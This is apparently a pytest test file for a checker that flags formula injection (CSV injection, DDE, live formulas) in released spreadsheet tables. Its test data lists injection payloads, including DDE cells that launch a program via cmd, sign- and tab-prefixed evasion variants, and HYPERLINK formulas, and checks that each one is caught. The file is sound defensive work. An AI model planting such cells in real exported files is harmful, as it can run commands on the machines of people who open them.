"""Spreadsheet formulas in released tables (CSV or formula injection, DDE, live formulas).

A cell that a spreadsheet program runs as a formula can call out (``=HYPERLINK``,
``=WEBSERVICE``), start programs (DDE: ``=cmd|' /C calc'!A0``) or show the checker
something other than what the file holds. Such cells fail, named, never pass.
"""

from __future__ import annotations

import io
from pathlib import Path

import pandas as pd
import pytest

import trenv.lab as tre
from tests.airlock.test_checks_files import by_rule, check, frozen, xlsx


@pytest.mark.parametrize(
    "cell",
    [
        '"=HYPERLINK(""http://example.org/?""&A2,""click"")"',
        "=cmd|' /C calc'!A0",
        "@SUM(1+9)*cmd|' /C calc'!A0",
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "=1+1",
        "-theft",
        '"\t=1+1"',
        '=DDE("cmd";"/C calc";"x")',
    ],
)
def test_formula_cells_in_a_csv_fail_with_their_cell(cell: str) -> None:
    c = check(frozen("t.csv", f"offence,n\ntheft,120\n{cell},130\n"))
    assert c.status == "fail"
    (hit,) = by_rule(c, "formula")
    assert hit.status == "fail" and hit.cells == [(1, 0)] and "A3" in hit.message


def test_a_formula_in_the_header_or_a_count_column_fails() -> None:
    c = check(frozen("t.csv", "offence,=1+1\ntheft,120\nfraud,=A2*2\n"))
    (hit,) = by_rule(c, "formula")
    assert "B1" in hit.message and "B3" in hit.message and hit.cells == [(1, 1)]


@pytest.mark.parametrize("value", ["-3", "-3.5", "+12", "-1e-3", "-", "-12%", "x", "12"])
def test_signed_numbers_and_placeholders_are_not_formulas(value: str) -> None:
    c = check(frozen("t.csv", f"region,change\nnorth,{value}\nsouth,40\n"))
    assert by_rule(c, "formula") == []


def test_formula_cells_of_a_saved_table_fail_too(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("TRENV_WORKSPACE", str(tmp_path))
    people = pd.DataFrame(
        {
            "person": [f"p{i}" for i in range(60)],
            "offence": ["theft"] * 30 + ['=HYPERLINK("http://x")'] * 30,
        }
    )
    out = tre.pivot_table(
        people, index="offence", aggfunc="count", contributor="person", policy="trenv-default"
    )
    tre.save(out, "t")
    data = (tmp_path / "outputs" / "t.csv").read_bytes()
    record = (tmp_path / "outputs" / "t.record.json").read_bytes()
    c = check(frozen("t.csv", data), record=record)
    (hit,) = by_rule(c, "formula")
    assert hit.status == "fail" and c.status == "fail"


def workbook_with_formulas() -> bytes:
    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    assert ws is not None
    ws.title = "counts"
    ws.append(["offence", "n"])
    ws.append(["theft", 120])
    ws.append(["fraud", "=B2*2"])  # a live formula: its cached value is empty
    ws["A4"] = "=cmd|' /C calc'!A0"
    ws["A4"].data_type = "s"  # stored as text: runs once the sheet is saved as CSV
    ws["B4"] = 130
    other = wb.create_sheet("notes")
    other["C7"] = '=HYPERLINK("http://example.org","x")'
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def test_formula_cells_of_a_workbook_fail_by_type_and_by_text() -> None:
    c = check(frozen("t.xlsx", workbook_with_formulas()))
    assert c.status == "fail"
    hits = by_rule(c, "formula")
    text = " ".join(h.message for h in hits)
    assert all(h.status == "fail" for h in hits)
    assert "'counts'" in text and "B3" in text and "A4" in text
    assert "'notes'" in text and "C7" in text
    first = next(h for h in hits if "'counts'" in h.message)
    assert sorted(first.cells) == [(1, 1), (2, 0)]
    assert next(h for h in hits if "'notes'" in h.message).cells == []  # not previewed


def test_a_workbook_of_values_has_no_formula_findings() -> None:
    data = xlsx(("s", [["region", "change"], ["north", -3], ["south", "-"]], "visible"))
    assert by_rule(check(frozen("t.xlsx", data)), "formula") == []
